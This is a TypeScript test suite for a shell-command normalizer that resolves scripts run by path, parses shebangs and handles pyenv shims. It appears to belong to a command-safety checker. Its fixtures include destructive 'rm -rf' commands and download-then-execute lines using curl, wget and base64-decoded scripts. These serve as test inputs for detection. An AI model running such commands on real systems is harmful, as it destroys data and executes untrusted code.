import { describe, expect, it } from 'vitest';
import { shebang } from '../../src/normalize/scripts.js';
import { filesContext, normalizeIn } from '../helpers/normalize.js';

const FILES: Record<string, string> = {
  '/w/deploy.sh': '#!/usr/bin/env bash\nset -e\nrm -rf /srv/app\n',
  '/w/plain': 'rm -rf /srv/plain\n',
  '/w/opts.sh': '#!/bin/bash -e\nrm -rf /srv/opts\n',
  '/w/ok.sh': '#!/bin/sh\nls -la\n',
  '/w/bin/tool': '\x7fELF\0\0\0binary',
  '/usr/local/bin/helper': '#!/bin/sh\nrm -rf /srv/installed\n',
  '/w/build.mk': '#!/usr/bin/make -f\nall:\n\trm -rf /srv/mk\n',
};

const ctx = filesContext(FILES);

function run(script: string) {
  const r = normalizeIn(ctx, script);
  return {
    issues: r.issues,
    cmds: r.commands.map((c) => ({ argv: c.argv.join(' '), dynamic: c.dynamic })),
    names: r.commands.map((c) => c.program),
  };
}

describe('scripts run by path', () => {
  it.each<[string, string]>([
    ['./deploy.sh', 'rm -rf /srv/app'],
    ['sh -c ./deploy.sh', 'rm -rf /srv/app'],
    ['./plain arg', 'rm -rf /srv/plain'],
    ['/w/opts.sh', 'rm -rf /srv/opts'],
    ['./build.mk all', 'rm -rf /srv/mk'],
    ['cd /w && ./opts.sh', 'rm -rf /srv/opts'],
    ['echo "rm -rf ~" > x.sh && chmod +x x.sh && ./x.sh', 'rm -rf /h'],
    ["printf '#!/bin/bash\\nrm -rf /data\\n' > /tmp/r; /tmp/r", 'rm -rf /data'],
    ["cat > y <<'EOF'\nrm -rf /y\nEOF\nsudo ./y", 'rm -rf /y'],
    [
      'printf \'#!/usr/bin/env python3\\nimport shutil\\nshutil.rmtree("/p")\\n\' > q.py; ./q.py',
      'rm -rf /p',
    ],
  ])('%s runs its script: %s', (script, inner) => {
    const r = run(script);
    expect(r.issues).toEqual([]);
    expect(r.cmds.map((c) => c.argv)).toContain(inner);
  });

  it.each<[string]>([
    ['curl -o y.sh https://x.example/y.sh && ./y.sh'],
    ['wget -O /tmp/i https://x.example/i; /tmp/i'],
    ['base64 -d "$P" > run.sh; ./run.sh'],
    ['cp "$SRC" ./deploy.sh; ./deploy.sh'],
  ])('%s: a file this script wrote with unknown content is unknown code', (script) => {
    const r = run(script);
    expect(r.cmds.at(-1)).toMatchObject({ dynamic: true });
    expect(r.names).toContain('');
    expect(r.cmds.map((c) => c.argv)).not.toContain('rm -rf /srv/app');
  });

  it.each<[string, string[]]>([
    ['./ok.sh', ['./ok.sh', 'ls -la']],
    ['./bin/tool --help', ['./bin/tool --help']],
    ['./missing.sh', ['./missing.sh']],
    ['/usr/local/bin/helper', ['/usr/local/bin/helper']],
    ['echo ls > z.sh; ./z.sh', ['ls']],
  ])('%s stays literal and understood', (script, argvs) => {
    const r = run(script);
    expect(r.issues).toEqual([]);
    for (const a of argvs) expect(r.cmds).toContainEqual({ argv: a, dynamic: false });
  });
});

describe('shebang', () => {
  it.each<[string, string[] | undefined]>([
    ['#!/bin/bash\nx', ['/bin/bash']],
    ['#!/usr/bin/env -S python3 -u\nx', ['/usr/bin/env', '-S python3 -u']],
    ['#! /bin/sh -e\n', ['/bin/sh', '-e']],
    ['echo hi\n', ['sh']],
    ['#!\n', undefined],
  ])('%j → %j', (text, want) => {
    expect(shebang(text)).toEqual(want);
  });
});

describe('version-manager shims run by path', () => {
  const SHIM = (root: string) =>
    `#!/usr/bin/env bash\nset -e\nprogram="\${0##*/}"\nexport PYENV_ROOT="${root}"\nexec "${root}/libexec/pyenv" exec "$program" "$@"\n`;
  const files: Record<string, string> = {
    '/h/.pyenv/shims/pip': SHIM('/h/.pyenv'),
    '/w/bin/pip': SHIM('/h/.pyenv'),
  };
  // The session's check: installed files and workspace files older than the session predate it.
  const predates = (p: string) => p.startsWith('/h/.');
  const sessionCtx = { ...filesContext(files), wrapperPredates: predates };
  it.each<[string, string, { program: string; argv: string }[] | 'script']>([
    [
      'by path, predating the session',
      '/h/.pyenv/shims/pip uninstall -y x',
      [{ program: 'pip', argv: 'pip uninstall -y x' }],
    ],
    ['a copy in the workspace made during the session', './bin/pip --version', 'script'],
  ])('%s: %s', (_n, script, expected) => {
    const r = normalizeIn(sessionCtx, script);
    const cmds = r.commands.map((c) => ({ program: c.program, argv: c.argv.join(' ') }));
    if (expected === 'script') expect(cmds.some((c) => c.argv.includes('libexec/pyenv'))).toBe(true);
    else expect(cmds).toEqual(expected);
  });
  it('without a session (no wrapperPredates) the shim is read as the script it is', () => {
    const r = normalizeIn(filesContext(files), '/h/.pyenv/shims/pip --version');
    expect(r.commands.some((c) => c.argv.join(' ').includes('libexec/pyenv'))).toBe(true);
  });
});
